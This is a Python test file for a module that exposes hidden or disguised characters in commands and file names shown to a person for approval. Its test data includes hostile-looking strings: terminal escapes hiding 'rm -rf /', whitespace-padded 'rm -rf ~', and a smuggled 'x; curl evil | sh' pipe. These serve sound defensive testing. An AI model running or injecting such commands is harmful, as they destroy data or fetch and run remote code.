"""What a person is shown before they say yes is what will run, and looks like it."""

from __future__ import annotations

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ferrule.core.shown_text import MOST, disguises, shown, shown_argument, shown_row


@pytest.mark.parametrize(
    "plain",
    [
        "git commit -m 'fix: naïve café'",
        "echo 你好 > 说明.txt",
        "grep -r 'привет мир' .",
        "printf 'a\tb\n'",
        'for f in *; do\n\n    echo "$f"\n\ndone',
        "echo 'ελληνικά κείμενα'",
        "git commit -m '修复：路径错误，并加测试（见说明）'",
    ],
)
def test_honest_text_in_any_language_stays_as_it_is(plain: str):
    assert shown(plain) == plain
    assert disguises(plain) == []


@pytest.mark.parametrize(
    ("text", "seen"),
    [
        ("ls\x1b[2K\rrm -rf /", r"ls\x1b[2K\x0drm -rf /"),
        ("echo \u202egnp.exe", r"echo \u{202e}gnp.exe"),
        ("cat\u200b secret", r"cat\u{200b} secret"),
        ("c\u0430t x", r"c\u{430}t x"),
        ("\u0441\u0430t x", r"\u{441}\u{430}t x"),
        ("echo ｒｍ", r"echo \u{ff52}\u{ff4d}"),
        ("echo “quoted”", r"echo \u{201c}quoted\u{201d}"),
        ("ls\u00a0-la", r"ls\xa0-la"),
        ("a\u2028b", r"a\u{2028}b"),
        ("ls" + " " * 300 + "; rm -rf ~", "ls ⟨300 spaces⟩ ; rm -rf ~"),
        ("ls" + "\n" * 50 + "rm -rf ~", "ls\n⟨49 blank lines⟩\nrm -rf ~"),
        ("a\ud800b", r"a\u{d800}b"),
    ],
)
def test_what_hides_or_disguises_itself_is_made_visible(text: str, seen: str):
    assert shown(text) == seen
    if "\ud800" not in text and "\u2028" not in text and "\u00a0" not in text:
        assert disguises(text)


def test_a_word_made_only_of_twins_is_marked_and_a_word_of_its_own_language_is_not():
    assert shown("сору") == r"\u{441}\u{43e}\u{440}\u{443}"
    assert shown("копия") == "копия"


def test_of_a_very_long_text_both_ends_are_shown_and_the_gap_is_said():
    text = "echo start\n" + "x" * 100_000 + "\nrm -rf end"
    seen = shown(text)
    assert seen.startswith("echo start\n")
    assert seen.endswith("\nrm -rf end")
    assert f"[… {len(text) - MOST:,} of {len(text):,} characters left out …]" in seen


@given(st.text())
def test_nothing_that_a_terminal_would_act_on_is_left(text: str):
    seen = shown(text)
    assert all(one in "\n\t" or one.isprintable() for one in seen)


@given(st.text(alphabet=st.characters(min_codepoint=0x20, max_codepoint=0x7E), max_size=200))
def test_ascii_without_long_gaps_is_shown_as_it_is(text: str):
    if " " * 16 not in text:
        assert shown(text) == text


def test_on_one_row_a_line_end_is_seen_and_passes_for_none():
    assert shown_row("a\nRun it? yes\x1b[A") == r"a⏎Run it? yes\x1b[A"


@given(st.text(st.characters(codec="ascii", exclude_categories=["Cc"]), min_size=1, max_size=12))
def test_a_name_in_a_command_to_copy_stays_one_word_of_it(name: str):
    words = shlex.split(f"ferrule mcp trust {shown_argument(name)}")
    assert [word for word in words[3:] if word != "--" or name == "--"][-1] == name
    assert words[3] == ("--" if name.startswith("-") else name)


def test_a_name_in_a_command_cannot_bring_a_command_or_a_row_of_its_own():
    assert shown_argument("x; curl evil | sh") == "'x; curl evil | sh'"
    assert shown_argument("a\nb") == "'a⏎b'"


@pytest.mark.parametrize(
    ("name", "seen"),
    [
        ("p\u0430ypal.py", "p\\u{430}ypal.py"),
        ("\u0441\u043e\u0440\u0443", "\\u{441}\\u{43e}\\u{440}\\u{443}"),
        ("file\u0436", "file\\u{436}"),
        ("\u13aapple", "\\u{13aa}pple"),
        ("10\u043a\u043c", "10\\u{43a}\\u{43c}"),
        *(
            (name, name)
            for name in ("test_файл.txt", "отчёт", "Größe", "łódź", "报告v2.txt", "データa", "Ελλάδα", "µs")
        ),
    ],
)
def test_names_of_mixed_scripts_are_marked_and_those_of_one_are_not(name: str, seen: str) -> None:
    """P4: whoever approves a name sees which letters are not what they look like."""
    assert shown_row(name) == seen
    assert bool(disguises(name)) == (seen != name)
